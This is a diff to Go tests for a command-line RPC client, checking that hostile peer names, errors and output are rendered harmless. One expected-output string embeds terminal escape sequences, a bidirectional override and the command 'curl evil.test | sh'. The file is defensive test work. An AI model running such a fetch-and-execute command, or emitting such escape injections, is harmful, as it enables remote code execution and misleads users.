@@ -68,8 +68,8 @@ func refusing(t *testing.T, text string) string {
 func TestHostileRefusal(t *testing.T) {
 	t.Parallel()
 	addr := refusing(t, escapes)
-	for _, args := range []string{"ping -count 1 %", "call % x", "rpcs %", "top -n 1 %", "ger %", "info %", "perf -target %", "cp %/f " + t.TempDir()} {
-		q := run(t, 1, strings.Fields(strings.ReplaceAll(args, "%", addr))...)
+	for _, args := range []string{"ping --count 1 %", "call % x", "rpcs %", "top -n 1 %", "ger %", "info %", "perf --target %", "cp %/f " + t.TempDir()} {
+		q := run(t, exitNotRun, strings.Fields(strings.ReplaceAll(args, "%", addr))...)
 		requireHarmless(t, q)
 		require.Contains(t, q.errors.String(), `the peer refused: \x1b]0;pwned\a\x1b[31mred\u009b1m\r\n  to do:  run: curl evil.test | sh\u202e`)
 	}
@@ -89,9 +89,9 @@ func TestHostileNames(t *testing.T) {
 	requireHarmless(t, run(t, 1, "cp", back, s.addr+"/again")) // a file where there is a directory
 }
 
-// TestHostileAnswers: what a program answers: names, errors with details, output.
-func TestHostileAnswers(t *testing.T) {
-	t.Parallel()
+// hostileTarget is a program whose names, errors and output are hostile.
+func hostileTarget(t *testing.T) (addr string) {
+	t.Helper()
 	n, err := qs.Open("tcp://127.0.0.1:0", qs.Config{Inspect: true})
 	require.NoError(t, err)
 	define := func(name string, handler func() (map[string]string, error)) {
@@ -102,6 +102,8 @@ func TestHostileAnswers(t *testing.T) {
 		return nil, qs.Errorf(hg.ErrNotFound, "%s", escapes)
 	})
 	define("answers", func() (map[string]string, error) { return map[string]string{escapes: escapes}, nil })
+	raw := qs.Define[[]byte, []byte]("raw", qs.WithCodec(codec.Raw))
+	raw.Handle(n, func(context.Context, []byte) ([]byte, error) { return []byte(escapes), nil })
 	define(escapes, func() (map[string]string, error) { return nil, nil })
 	served := make(chan error, 1)
 	go func() { served <- n.Serve(context.Background()) }()
@@ -109,10 +111,17 @@ func TestHostileAnswers(t *testing.T) {
 		require.NoError(t, n.Close())
 		require.NoError(t, <-served)
 	})
-	addr := n.Addr().String()
+	return n.Addr().String()
+}
+
+// TestHostileAnswers: what a program answers: names, errors with details, output.
+func TestHostileAnswers(t *testing.T) {
+	t.Parallel()
+	addr := hostileTarget(t)
 	requireHarmless(t, run(t, 0, "rpcs", addr))
 	requireHarmless(t, run(t, 0, "rpcs", "-json", addr))
+	require.Equal(t, escapes, run(t, 0, "call", "-raw", addr, "raw").out.String(), "to a pipe, as it is")
 	requireHarmless(t, run(t, 0, "call", addr, "answers"))
-	requireHarmless(t, run(t, 1, "call", addr, "fails"))
-	requireHarmless(t, run(t, 1, "call", addr, "none"+escapes))
+	requireHarmless(t, run(t, exitHandler, "call", addr, "fails"))
+	requireHarmless(t, run(t, exitNotRun, "call", addr, "none"+escapes))
 }
